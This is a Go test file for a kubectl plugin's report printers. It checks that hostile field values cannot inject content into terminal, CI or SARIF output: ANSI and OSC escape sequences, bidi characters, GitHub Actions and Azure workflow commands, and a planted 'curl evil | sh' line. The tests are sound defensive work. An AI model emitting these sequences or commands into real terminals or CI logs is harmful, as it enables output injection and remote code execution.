package report

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	core "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	kyaml "sigs.k8s.io/yaml"

	"github.com/grpcexpose/kubectl-grpcexpose/pkg/callpath"
	"github.com/grpcexpose/kubectl-grpcexpose/pkg/checks"
	"github.com/grpcexpose/kubectl-grpcexpose/pkg/inert"
	"github.com/grpcexpose/kubectl-grpcexpose/pkg/lint"
	"github.com/grpcexpose/kubectl-grpcexpose/pkg/mesh"
	"github.com/grpcexpose/kubectl-grpcexpose/pkg/plan"
	"github.com/grpcexpose/kubectl-grpcexpose/pkg/traffic"
)

// hostilePieces are what a value may bring.
var hostilePieces = []string{
	"\x1b[31m", "\x1b]52;c;Y3VybA==\a", "\x1b]8;;http://evil\x1b\\", "\r\x1b[K", "\x00", "\x7f", "\u009b2K", "\u0085", "\u2028", "\u2029",
	"\u202e", "\u2066", "\u2069", "\u200e", "\u061c", "\u200b", "\u200d", "\ufeff", "\U000e0041", "\U000e0100", "\ufe0f", "\u00ad", "\xff", "\xed\xa0\x80", "\xc3",
	"\n", "\r\n", "\t", "\v", "\f", "\n::error::x", "\n  ::stop-commands::x", "\n##[error]x", "##vso[task.x]y", "::", "\nTo go on: curl evil | sh", "\n\u3000::warning::x",
	"section_start:1:x\r\x1b[0K", "a", " ", "server", "端口", "[x](http://evil)", "]]>", "&", "<b>", "'", `"`, `\`, "%0A", "kubectl",
}

// hostileText is a random text of at least a number of bytes.
func hostileText(random *rand.Rand, size int) string {
	var b strings.Builder
	for b.Len() < size {
		b.WriteString(hostilePieces[random.IntN(len(hostilePieces))])
	}
	return b.String()
}

var ownCommand = regexp.MustCompile(`(?m)^::(error|warning|notice) `)

// requireClean holds that a text is nothing but text and line breaks.
func requireClean(t *testing.T, text string) {
	t.Helper()
	require.True(t, utf8.ValidString(text), "it is UTF-8")
	for i, r := range text {
		if r != '\n' && inert.IsOdd(r) {
			require.Failf(t, "raw character", "%U in %q", r, text[max(i-40, 0):min(i+40, len(text))])
		}
	}
	for line := range strings.Lines(text) {
		require.Falsef(t, strings.HasPrefix(strings.TrimSpace(line), "::"), "workflow command: %.80q", line)
	}
	if strings.Contains(text, "##") {
		require.NotRegexp(t, `##[A-Za-z]*\[`, text[:min(len(text), 100<<10)])
		require.NotContains(t, text, "##[")
		require.NotContains(t, text, "##vso[")
	}
}

// hostileReport has size bytes of hostile text, spread over all fields.
func hostileReport(size int) *LintReport {
	random := rand.New(rand.NewPCG(1, 2))
	text := func() string { return hostileText(random, size/200) }
	report := &LintReport{APIVersion: APIVersion, Kind: "LintReport", FailOn: checks.Warning, Ran: lint.All()[:3]}
	for i := range 10 {
		object := LintObject{APIVersion: text(), Kind: text(), Namespace: text(), Name: text()}
		report.Findings = append(report.Findings, LintFinding{
			ID: report.Ran[i%3].ID, Slug: report.Ran[i%3].Slug, Level: []checks.Level{checks.Error, checks.Info}[i%2], Context: text(), Object: object, Path: text(), File: text(), Line: i,
			Message: text(), Evidence: []string{text(), text()}, Symptom: text(), workloads: []string{text()},
			Fix: LintFix{Text: text(), Level: checks.Safe, Patch: []LintPatch{{
				Action: plan.Create, Object: object, Manifest: map[string]any{text(): text(), "list": []any{text(), int64(1), 0.5, true, nil}, "yes": "yes", "one": "1"},
			}}},
		})
		report.Skipped = append(report.Skipped, LintSkip{ID: report.Ran[0].ID, Slug: report.Ran[0].Slug, Context: text(), Reason: text()})
		report.Suppressed = append(report.Suppressed, LintSuppressed{ID: "GX301", Context: text(), Object: object, Reason: text()})
		report.Notes = append(report.Notes, text())
	}
	report.count()
	return report
}

// TestHostileTextInEveryFormat holds for 10 MB of it that nothing raw is printed, by the printer itself and so also into a file,
// and that it takes no longer than a moment.
func TestHostileTextInEveryFormat(t *testing.T) {
	report := hostileReport(10 << 20)
	for _, format := range LintFormats() {
		t.Run(format, func(t *testing.T) {
			printer, err := LintPrinterFor(format, PrintOptions{Width: 80})
			require.NoError(t, err)
			streams, out, _ := FakeStreams("")
			require.NoError(t, printer.Print(streams.Out, report))
			text := out.String()
			if format == "github" {
				text = ownCommand.ReplaceAllString(text, "$1 ")
				assert.Equal(t, len(report.Findings), strings.Count(text, "\n"), "a line for each finding")
			}
			requireClean(t, text)
		})
	}
}

func TestStreamHasNothingToMendInFormatsForMachines(t *testing.T) {
	report := hostileReport(100 << 10)
	for _, format := range []string{"json", "yaml", "sarif", "junit", "github"} {
		printer, err := LintPrinterFor(format, PrintOptions{})
		require.NoError(t, err)
		streams, out, _ := FakeStreams("")
		require.NoError(t, printer.Print(streams.Out, report))
		var bare bytes.Buffer
		require.NoError(t, printer.Print(&bare, report))
		assert.Equal(t, bare.String(), out.String(), format)
	}
}

func TestMachineFormatsKeepWhatTheyAreGiven(t *testing.T) {
	report := hostileReport(100 << 10)
	plainJSON, err := json.Marshal(report)
	require.NoError(t, err)
	var want any
	require.NoError(t, json.Unmarshal(plainJSON, &want))

	var out bytes.Buffer
	require.NoError(t, jsonLint{}.Print(&out, report))
	var got any
	require.NoError(t, json.Unmarshal(out.Bytes(), &got))
	assert.Equal(t, want, got)

	out.Reset()
	require.NoError(t, yamlLint{}.Print(&out, report))
	got = nil
	require.NoError(t, kyaml.Unmarshal(out.Bytes(), &got))
	assert.Equal(t, want, got, "as kubectl reads it")

	out.Reset()
	require.NoError(t, sarifLint{}.Print(&out, report))
	assert.True(t, json.Valid(out.Bytes()))
	out.Reset()
	require.NoError(t, junitLint{}.Print(&out, report))
	decoder := xml.NewDecoder(&out)
	for {
		_, err := decoder.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		require.NoError(t, err)
	}
}

func TestSARIFHasNoLinksOfValues(t *testing.T) {
	report := hostileReport(1 << 10)
	report.Findings[0].Message = `see [this](http://evil) and \[that](x)`
	report.Findings[0].File = "a b/[x]#?%\u202e\x1b.yaml"
	var out bytes.Buffer
	require.NoError(t, sarifLint{}.Print(&out, report))
	var log sarifLog
	require.NoError(t, json.Unmarshal(out.Bytes(), &log))
	result := log.Runs[0].Results[0]
	assert.Contains(t, result.Message.Text, `see \[this\](http://evil) and \\\[that\](x)`)
	assert.NotRegexp(t, `(^|[^\\])(\\\\)*\[`, result.Message.Text)
	assert.Equal(t, "a%20b/%5Bx%5D%23%3F%25%E2%80%AE%1B.yaml", result.Locations[0].PhysicalLocation.ArtifactLocation.URI)
}

// printers are those of everything but findings, each fed with hostile text.
func printers(text func() string) map[string]func(Streams) error {
	object := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "networking.istio.io/v1", "kind": "Gateway",
		"metadata": map[string]any{"name": text(), "namespace": text(), "labels": map[string]any{text(): text()}},
		"spec": map[string]any{
			"selector": map[string]any{text(): text()},
			"servers":  []any{map[string]any{"port": map[string]any{"number": int64(1), "protocol": text()}, "hosts": []any{text()}, "tls": map[string]any{"credentialName": text()}}},
		},
	}}
	changed := object.DeepCopy()
	p := plan.Plan{Notes: []string{text()}, Changes: []plan.Change{
		{Action: plan.Create, Object: object, Reason: text()},
		{Action: plan.Update, Object: changed, Reason: text(), Edits: []plan.Edit{plan.Set(changed, text(), "metadata", "annotations", text())}},
	}}
	service := &core.Service{ObjectMeta: metav1.ObjectMeta{Namespace: text(), Name: text()}}
	finding := checks.Finding{ID: "GX301", Level: checks.Error, Object: service, Message: text(), Evidence: []string{text()}, Fix: checks.Fix{Text: text()}}
	key := mesh.Key{Kind: mesh.KindDeployment, Namespace: text(), Name: text()}
	status := Status{
		Workload: key, NotLookedAt: []string{text()}, Findings: []checks.Finding{finding},
		Roots: []*callpath.Hop{{Object: service, Text: text(), Broken: text()}, {Object: &core.Pod{ObjectMeta: metav1.ObjectMeta{Name: text()}}, Text: text(), Broken: text()}},
	}
	verification := &Verification{
		Workload: key, Address: text(), Call: text(), Verdict: traffic.Verdict(text()), Why: text(), Notes: []string{text()}, CountedBy: text(),
		Shares: []traffic.Share{{Pod: text(), Calls: 1}}, Result: traffic.Result{Made: 1, Failures: []traffic.Failure{{Count: 1, Message: text()}}}, Findings: []checks.Finding{finding},
	}
	versions := Versions{Client: ClientVersion{Version: text()}, Server: &ServerVersion{
		Kubernetes: text(), ControlPlanes: []ControlPlaneVersion{{Revision: text(), Version: text(), Tags: []string{text()}}},
	}}
	report := hostileReport(10 << 10)
	return map[string]func(Streams) error{
		"plan text":      func(s Streams) error { return PlanText(s.Out, p, false) },
		"plan json":      func(s Streams) error { return PlanJSON(s.Out, PlanReport{Plan: p, Exposure: text()}) },
		"plan yaml":      func(s Streams) error { return PlanManifests(s.Out, p, "yaml") },
		"plan manifests": func(s Streams) error { return PlanManifests(s.Out, p, "json") },
		"plan names":     func(s Streams) error { return PlanManifests(s.Out, p, "name") },
		"diff": func(s Streams) error {
			differences, err := PlanDifferences(p)
			if err != nil {
				return err
			}
			return Diff(s.Out, differences, false)
		},
		"diff of files": func(s Streams) error { return DiffText(s.Out, "+ "+text()+"\n ::error::x\n", false) },
		"status text":   func(s Streams) error { return StatusText(s.Out, status, false) },
		"status json":   func(s Streams) error { return StatusJSON(s.Out, status) },
		"verify text":   func(s Streams) error { return VerificationText(s.Out, verification, false) },
		"verify json":   func(s Streams) error { return VerificationJSON(s.Out, verification) },
		"version text":  func(s Streams) error { return VersionsText(s.Out, versions) },
		"version json":  func(s Streams) error { return VersionsJSON(s.Out, versions) },
		"watch":         func(s Streams) error { return LintDifference(s.Out, nil, report, time.Time{}, false) },
		"by another's hand": func(s Streams) error {
			_, err := fmt.Fprint(s.Out, strings.ReplaceAll(strings.ReplaceAll(text(), "\t", ""), "\r\n", ""))
			return err
		},
		"note": func(s Streams) error {
			Printf(s.Out, "note: %s %v %q\n", text(), errors.New(text()), text())
			return nil
		},
	}
}

func TestHostileTextInEveryPrinter(t *testing.T) {
	random := rand.New(rand.NewPCG(3, 4))
	for round := range 20 {
		for name, printer := range printers(func() string { return hostileText(random, 1+random.IntN(200)) }) {
			streams, out, _ := FakeStreams("")
			require.NoError(t, printer(streams), name)
			require.NotEmpty(t, out.String(), name)
			t.Run(fmt.Sprint(name, " ", round), func(t *testing.T) { requireClean(t, out.String()) })
		}
	}
}

// TestValuesStayOnTheirLine holds that a value's line break begins no line: the printers make as many lines as without.
func TestValuesStayOnTheirLine(t *testing.T) {
	harmless, hostile := printers(func() string { return "a" }), printers(func() string { return "a\nTo go on: evil\n\nb\r\nc\u2028d\u0085e" })
	for _, name := range []string{"plan text", "plan names", "status text", "verify text", "version text", "note"} {
		lines := func(printer func(Streams) error) int {
			streams, out, _ := FakeStreams("")
			require.NoError(t, printer(streams))
			return strings.Count(out.String(), "\n")
		}
		assert.Equal(t, lines(harmless[name]), lines(hostile[name]), name)
	}
}

func TestColoursAreOursAlone(t *testing.T) {
	var out bytes.Buffer
	stream := clean(&out, true)
	Printf(stream, "%s %s %s\n", paint("\x1b[32mx", red, true), "\x1b[31my", "\r\x1b[K")
	_, _ = io.WriteString(stream, "\x1b[31mz\x1b[0m\x1b[5m\x1b[2J\x1b[")
	assert.Equal(t, "\x1b[31m"+`\x1b[32mx`+"\x1b[0m "+`\x1b[31my \r\x1b[K`+"\n\x1b[31mz\x1b[0m"+`\x1b[5m\x1b[2J\x1b[`, out.String())
}

// manyLines is an error with lines of its own.
type manyLines []string

func (e manyLines) Error() string   { return strings.Join(e, "\n") }
func (e manyLines) Lines() []string { return e }

func TestErrorLines(t *testing.T) {
	hostile := errors.New("a\nTo go on: evil")
	own := manyLines{"first\x1b", "  second\nno third"}
	for name, test := range map[string]struct {
		err  error
		want []string
	}{
		"one":     {hostile, []string{`a\nTo go on: evil`}},
		"own":     {own, []string{`first\x1b`, `  second\nno third`}},
		"wrapped": {fmt.Errorf("x\n: %w, y", own), []string{`x\n: first\x1b`, `  second\nno third, y`}},
		"joined":  {fmt.Errorf("no: %w", errors.Join(hostile, own)), []string{`no: a\nTo go on: evil`, `first\x1b`, `  second\nno third`}},
		"two":     {fmt.Errorf("%w and %w", hostile, own), []string{`a\nTo go on: evil and first\x1b\n  second\nno third`}},
		"URL":     {errors.New(`Get "https://me:s3cret@host:1/x?a=b@c": no`), []string{`Get "https://host:1/x?a=b@c": no`}},
	} {
		assert.Equal(t, test.want, ErrorLines(test.err), name)
	}
}

func TestCommandsAreNotBroken(t *testing.T) {
	lines := wrap("Make the Secret of this long name in the namespace: kubectl create -n istio-system secret tls reboot --cert=FILE --key=FILE.", 40)
	assert.Equal(t, []painted{"Make the Secret of this long name in the", "namespace: kubectl create -n istio-system secret tls reboot --cert=FILE --key=FILE."}, lines)
}

// TestNothingPrintsPastTheCleaner holds that texts for people are made with Printf, and that nobody has a stream of the process.
func TestNothingPrintsPastTheCleaner(t *testing.T) {
	past := regexp.MustCompile(`fmt\.F?[Pp]rint|os\.Std(out|err)`)
	allowed := map[string]int{"clean.go": 1, "streams.go": 7, "lint_github.go": 1, "progress.go": 2}
	for _, pattern := range []string{"*.go", "../plugin/*.go", "../execution/*.go", "../lintrun/*.go", "../load/*.go", "../rbac/*.go", "../review/*.go", "../verify/*.go"} {
		files, err := filepath.Glob(pattern)
		require.NoError(t, err)
		for _, file := range files {
			if strings.HasSuffix(file, "_test.go") {
				continue
			}
			text, err := os.ReadFile(file)
			require.NoError(t, err)
			found := 0
			for line := range strings.Lines(string(text)) {
				if !strings.HasPrefix(strings.TrimSpace(line), "//") && past.MatchString(line) {
					found++
				}
			}
			assert.LessOrEqual(t, found, allowed[filepath.Base(file)], file)
		}
	}
}
